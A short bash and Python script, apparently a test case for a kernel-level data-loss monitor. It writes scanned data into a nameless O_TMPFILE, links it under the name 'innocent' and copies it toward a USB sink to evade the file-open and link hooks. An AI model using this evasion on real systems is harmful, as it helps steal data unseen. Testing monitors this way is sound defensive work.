#!/usr/bin/env bash
# technique: an O_TMPFILE without a name, linked into the own disk, copied by another process
# hooks: inode_link, file_open, file_permission
# sink: usb

. attack.sh
python3 - <<'PY'
from attack import *

fd = os.open(ROOM, os.O_TMPFILE | os.O_RDWR)
os.write(fd, scan())
os.link(f"/proc/self/fd/{fd}", f"{ROOM}/innocent", src_dir_fd=fd)
PY
cp "$ROOM/innocent" "$COPY"
